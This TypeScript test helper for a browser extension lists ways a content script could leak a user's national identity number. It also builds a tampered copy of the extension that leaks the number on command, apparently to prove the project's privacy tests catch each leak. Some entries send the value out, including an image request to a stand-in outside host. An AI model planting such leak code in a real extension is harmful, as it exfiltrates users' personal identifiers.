import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** One way for the content script to let the number out. */
interface ScriptLeak {
  channel: string;
  by: string;
  /** Knows `value`, what is in the field, and `api`, the browser's extension API. */
  code: string;
}

/** What a content script could do with a number, and ours never does. */
export const SCRIPT_LEAKS: readonly ScriptLeak[] = [
  { channel: 'console', by: 'a line in the console', code: 'console.log(value)' },
  {
    channel: 'console',
    by: 'an uncaught error',
    code: 'setTimeout(() => { throw new Error(value); })',
  },
  {
    channel: 'console',
    by: 'an unhandled rejection',
    code: 'void Promise.reject(new Error(value))',
  },
  {
    channel: 'messages',
    by: 'a message',
    code: "api.runtime.sendMessage({ type: 'at-field', kind: value })",
  },
  { channel: 'messages', by: 'the name of a port', code: 'api.runtime.connect({ name: value })' },
  {
    channel: 'messages',
    by: 'a message through a port',
    code: 'api.runtime.connect().postMessage(value)',
  },
  {
    channel: 'messages',
    by: 'an answer to the guide',
    code: 'answer = value',
  },
  { channel: 'storage', by: 'the storage', code: 'api.storage.local.set({ leak: value })' },
  { channel: 'stores', by: 'the page’s storage', code: 'localStorage.leak = value' },
  { channel: 'stores', by: 'a cookie', code: "document.cookie = 'leak=' + value" },
  { channel: 'stores', by: 'a database', code: 'indexedDB.open(value)' },
  {
    channel: 'stores',
    by: 'the state of the history',
    code: "history.replaceState(value, '')",
  },
  { channel: 'document', by: 'an attribute', code: 'document.body.dataset.leak = value' },
  { channel: 'titles', by: 'the title', code: 'document.title = value' },
  { channel: 'network', by: 'an address asked for', code: "fetch('/leak?' + value)" },
  {
    channel: 'network',
    by: 'a picture from elsewhere',
    code: "new Image().src = 'https://ailleurs.invalid/' + value",
  },
];

/** The event that makes the copy leak; `data-way` of the document says which way it uses. */
export const LEAK_EVENT = 'leak-now';

/**
 * Makes a copy of the build whose content script lets the number out when it is told to.
 *
 * @param to a folder that does not exist yet
 */
export function makeLeakingCopy(extensionDir: string, to: string): void {
  cpSync(extensionDir, to, { recursive: true });
  const script = join(to, 'caf-login.js');
  const ways = SCRIPT_LEAKS.map(({ code }) => `(value) => { ${code}; }`);
  // Before the real script: the first listener answers first.
  const leaking = `{
    const api = globalThis.browser ?? chrome;
    let answer;
    api.runtime.onMessage.addListener((message, sender, respond) => {
      if (answer) respond(answer);
    });
    const ways = [${ways.join()}];
    addEventListener('${LEAK_EVENT}', () => {
      ways[document.documentElement.dataset.way](document.querySelector('#nir').value);
    });
  }`;
  writeFileSync(script, `${leaking}\n${readFileSync(script, 'utf8')}`);
}
